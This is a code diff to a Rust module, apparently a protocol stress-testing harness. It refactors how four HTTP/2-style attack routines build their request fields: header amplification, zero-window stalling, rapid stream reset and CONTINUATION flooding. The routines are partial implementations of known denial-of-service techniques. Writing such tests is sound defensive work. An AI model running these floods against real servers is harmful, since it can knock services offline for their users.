@@ -14,6 +14,7 @@ use self::frame::{
 };
 use self::session::Session;
 use super::{Attack, COMMON, json_text};
+use crate::estate::BULK_INTERFACE;
 use crate::peer::{Crowd, Peer};
 
 /// As many as the agent allows at a time.
@@ -79,8 +80,8 @@ pub(super) const ALL: &[Attack] = &[
     },
 ];
 
-fn path() -> String {
-    format!("/{INTERFACE}/echo")
+fn fields(interface: &str) -> Vec<u8> {
+    frame::call_fields(&format!("/{interface}/echo"))
 }
 
 /// Numbers of streams that a client opens.
@@ -91,7 +92,7 @@ fn streams() -> impl Iterator<Item = u32> {
 async fn amplification(peer: Peer) -> io::Result<()> {
     let mut out = frame::start(&[]);
     for (nth, stream) in streams().take(N_STREAMS as usize).enumerate() {
-        let mut fields = frame::call_fields(&path());
+        let mut fields = fields(INTERFACE);
         if nth == 0 {
             frame::remembered(&mut fields, "a", "b");
         }
@@ -104,7 +105,7 @@ async fn amplification(peer: Peer) -> io::Result<()> {
 
 async fn zero_window(peer: Peer) -> io::Result<()> {
     let mut session = Session::new(peer, frame::start(&[(INITIAL_WINDOW_SIZE, 0)]));
-    let fields = frame::call_fields(&path());
+    let fields = fields(BULK_INTERFACE);
     let body = json_text(ZERO_WINDOW_LEN);
     for stream in streams().take(N_STREAMS as usize) {
         session.call(stream, &fields, &body).await?;
@@ -114,7 +115,7 @@ async fn zero_window(peer: Peer) -> io::Result<()> {
 
 async fn rapid_reset(mut peer: Peer) -> io::Result<()> {
     peer.send(&frame::start(&[])).await?;
-    let fields = frame::call_fields(&path());
+    let fields = fields(INTERFACE);
     let body = json_text(16);
     let mut out = Vec::new();
     for stream in streams().take(MAX_RESETS as usize) {
@@ -132,7 +133,7 @@ async fn rapid_reset(mut peer: Peer) -> io::Result<()> {
 async fn continuation(mut peer: Peer) -> io::Result<()> {
     peer.send(&frame::start(&[])).await?;
     let mut out = Vec::new();
-    frame::write(&mut out, HEADERS, NO_FLAGS, 1, &frame::call_fields(&path()));
+    frame::write(&mut out, HEADERS, NO_FLAGS, 1, &fields(INTERFACE));
     peer.send(&out).await?;
     let mut fields = Vec::new();
     while fields.len() < MAX_PAYLOAD_LEN - 64 {
